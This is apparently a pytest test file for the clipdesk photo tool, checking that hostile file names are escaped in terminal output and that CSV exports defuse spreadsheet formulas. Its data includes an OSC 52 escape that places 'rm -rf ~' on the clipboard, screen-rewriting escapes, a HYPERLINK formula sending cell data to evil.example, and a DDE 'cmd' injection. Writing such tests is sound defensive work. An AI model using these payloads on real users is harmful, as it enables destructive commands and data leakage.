"""File names and labels written to attack: terminal escapes, formulas, odd braces (issue 15, items 8, 9, 13)."""

from __future__ import annotations

import csv
import errno
import json
import logging
import os
import signal
import subprocess
import sys
import threading
import unicodedata
from pathlib import Path

import pytest
from watchutil import wait_for

from clipdesk._classify import Classification
from clipdesk._library import ClassifiedImage
from clipdesk._testing.colours import PALETTE

from .helpers import COLOUR_MODEL, assert_clean_error, clipdesk_argv, clipdesk_env, jpeg_bytes, run_clipdesk

RED, BLUE = PALETTE["red"], PALETTE["blue"]

# Each would do something to a terminal if printed raw.
CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4K\x07red.jpg"  # OSC 52: writes the clipboard
NEWLINE = "two\nlines.jpg"  # would split a hit over two lines
C1 = "c1\u009b2Jred.jpg"  # CSI as one C1 character: clears the screen
DEL_BELL = "del\x7f\x08\x07red.jpg"
NON_UTF8 = os.fsdecode(b"caf\xe9\x1b[31m.jpg")
FAKE = "\x1b[2K\rall photos verified.jpg"  # not an image: its "skipped" line would erase itself


def _unsafe(text: str) -> list[str]:
    """Characters a terminal would act on (C0 but newline, DEL, C1)."""
    return [ch for ch in text if ch != "\n" and unicodedata.category(ch) == "Cc"]


def _library(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    root = tmp_path / "ph\x1b[8mtos"  # the folder hides what follows it
    root.mkdir()
    for name in (CLIPBOARD, NEWLINE, C1, DEL_BELL, NON_UTF8):
        (root / name).write_bytes(jpeg_bytes(RED))
    (root / "blue.jpg").write_bytes(jpeg_bytes(BLUE))
    (root / FAKE).write_bytes(b"not a jpeg")
    return root, clipdesk_env(tmp_path / "data", PYTHONIOENCODING="utf-8:strict")


def _run(env: dict[str, str], *args: str) -> tuple[int, str, str]:
    result = subprocess.run(clipdesk_argv(*args), env=env, capture_output=True, timeout=120)
    out, err = result.stdout.decode(), result.stderr.decode()  # strictly UTF-8
    assert "Traceback" not in err, err
    assert not _unsafe(out) and not _unsafe(err), (out, err)
    return result.returncode, out, err


def test_names_never_reach_the_terminal_raw(tmp_path: Path) -> None:
    """Item 8: search, similar, classify, status and index print escapes, one line per name."""
    root, env = _library(tmp_path)
    code, out, err = _run(env, "index", str(root), "--model", COLOUR_MODEL)
    assert code == 0
    skipped = [line for line in err.splitlines() if "skipped" in line]
    assert len(skipped) == 1 and "\\x1b[2K\\rall photos verified.jpg" in skipped[0]
    assert "ph\\x1b[8mtos" in skipped[0]

    code, out, err = _run(env, "search", "red", "-n", "20")
    lines = out.splitlines()
    assert code == 0 and len(lines) == 6  # one line per photo, whatever its name
    assert any(line.endswith("/\\x1b]52;c;cm0gLXJmIH4K\\x07red.jpg") for line in lines)
    assert any(line.endswith("/two\\nlines.jpg") for line in lines)
    assert any(line.endswith("/c1\\x9b2Jred.jpg") for line in lines)
    assert any(line.endswith("/del\\x7f\\x08\\x07red.jpg") for line in lines)
    assert any(line.endswith("/caf\\udce9\\x1b[31m.jpg") for line in lines)

    code, out, _ = _run(env, "similar", str(root / NEWLINE), "-n", "3")
    assert code == 0 and len(out.splitlines()) == 3

    code, out, err = _run(
        env, "classify", str(root / CLIPBOARD), str(root / FAKE), "--labels", "red,\x1b[8mblue"
    )
    assert code == 1  # one image could not be read
    assert "\\x1b]52;c;cm0gLXJmIH4K\\x07red.jpg" in out and "\\x1b[8mblue" in out
    assert "\\x1b[2K\\rall photos verified.jpg" in err

    code, out, _ = _run(env, "status")
    assert code == 0 and "ph\\x1b[8mtos" in out

    code, out, err = _run(env, "search", "--like", str(tmp_path / "no\x1b]52;c;eA==\x07such.jpg"))
    assert code == 1 and "no\\x1b]52;c;eA==\\x07such.jpg" in err  # errors escape names too

    # --json was already right: the exact names, escaped by JSON itself.
    code, out, _ = _run(env, "search", "red", "-n", "20", "--json")
    names = {os.path.basename(hit["path"]) for hit in json.loads(out)}
    assert {CLIPBOARD, NEWLINE, C1, DEL_BELL} <= names


def test_the_watch_log_escapes_names(tmp_path: Path) -> None:
    """Item 8: `clipdesk watch` lines cannot be rewritten by a file name."""
    root, env = _library(tmp_path)
    proc = subprocess.Popen(
        [*clipdesk_argv("watch", str(root), "--model", COLOUR_MODEL, "--debounce", "0.2")],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env=env,
    )
    chunks: list[bytes] = []
    reader = threading.Thread(target=lambda: chunks.extend(iter(lambda: proc.stderr.read1(65536), b"")))  # type: ignore[union-attr]
    reader.start()
    try:
        wait_for(lambda: b"up to date" in b"".join(chunks), timeout=60, what="the first index")
        (root / "new\x1b]0;owned\x07.jpg").write_bytes(b"still not a jpeg")
        wait_for(lambda: b"owned" in b"".join(chunks), timeout=60, what="the new file's line")
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=30)
        reader.join(timeout=10)
    text = b"".join(chunks).decode()
    assert not _unsafe(text), text
    assert "Traceback" not in text
    assert "skipped" in text and "\\x1b[2K\\rall photos verified.jpg" in text
    assert "new\\x1b]0;owned\\x07.jpg" in text


def test_log_records_in_watch_are_escaped() -> None:
    """Item 8: the service's own warnings, printed by watch, are escaped like its lines."""
    from clipdesk._logfile import PrintableFormatter

    try:
        raise OSError(f"cannot read {CLIPBOARD}")
    except OSError:
        record = logging.LogRecord(
            "clipdesk._service", logging.ERROR, __file__, 1, "indexing %s failed", (FAKE,), sys.exc_info()
        )
    text = PrintableFormatter("%(asctime)s %(message)s").format(record)
    assert "indexing \\x1b[2K\\rall photos verified.jpg failed" in text
    assert "cannot read \\x1b]52;c;cm0gLXJmIH4K\\x07red.jpg" in text
    assert not _unsafe(text)


# -- item 9: CSV export ------------------------------------------------------------------


@pytest.fixture
def panel(qtbot, data_dir):  # type: ignore[no-untyped-def]
    from clipdesk._gui.classifypanel import ClassifyPanel

    widget = ClassifyPanel()
    qtbot.addWidget(widget)
    yield widget
    widget.loader.stop()


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def test_csv_export_keeps_odd_names_and_defuses_formulas(panel, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    odd = os.fsdecode(b"/photos/caf\xe9 =1+1.jpg")
    probabilities = dict(zip(FORMULAS, (0.7, 0.1, 0.1, 0.1)))
    panel.show_results([
        ClassifiedImage(odd, Classification(probabilities)),
        ClassifiedImage("/photos/=cmd.jpg", Classification(probabilities)),
        ClassifiedImage("/photos/broken.jpg", None, "not an image"),
    ])
    target = tmp_path / "out.csv"
    panel.write_csv(str(target))
    with target.open(newline="", encoding="utf-8", errors="strict") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["path", "best", *("'" + f for f in FORMULAS)]
    assert rows[1][:2] == ["/photos/caf\\udce9 =1+1.jpg", "'" + FORMULAS[0]]
    assert [row[0] for row in rows[2:]] == ["/photos/=cmd.jpg", "/photos/broken.jpg"]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    assert sorted(os.listdir(tmp_path)) == ["out.csv"]


def test_a_failed_csv_export_leaves_the_old_file_whole(panel, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    panel.show_results([ClassifiedImage(f"/photos/{i}.jpg", Classification({"a": 0.6, "b": 0.4})) for i in range(5)])
    target = tmp_path / "out.csv"
    target.write_text("the export from last week\n")
    real_writer = csv.writer

    class DiskFills:
        def __init__(self, handle, *a, **kw):  # type: ignore[no-untyped-def]
            self.rows = 0
            self.writer = real_writer(handle, *a, **kw)

        def writerow(self, row):  # type: ignore[no-untyped-def]
            self.rows += 1
            if self.rows == 3:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            return self.writer.writerow(row)

    monkeypatch.setattr(csv, "writer", DiskFills)
    with pytest.raises(OSError):
        panel.write_csv(str(target))
    assert target.read_text() == "the export from last week\n"
    assert sorted(os.listdir(tmp_path)) == ["out.csv"]


# -- item 13: --template ------------------------------------------------------------------


def test_a_template_with_unknown_braces_is_one_clear_error(tmp_path: Path) -> None:
    image = tmp_path / "red.jpg"
    image.write_bytes(jpeg_bytes(RED))
    env = clipdesk_env(tmp_path / "data")
    for template in ("a {photo}", "a {0} photo", "a {", "a {label!r}"):
        result = run_clipdesk(
            env, "classify", str(image), "--labels", "red,blue", "--template", template, "--model", COLOUR_MODEL
        )
        assert_clean_error(result, "template")
    result = run_clipdesk(
        env, "classify", str(image), "--labels", "red,blue", "--template", "{{a}} {label}", "--model", COLOUR_MODEL,
        "--json",
    )
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)[0]["labels"]["red"] > 0.5
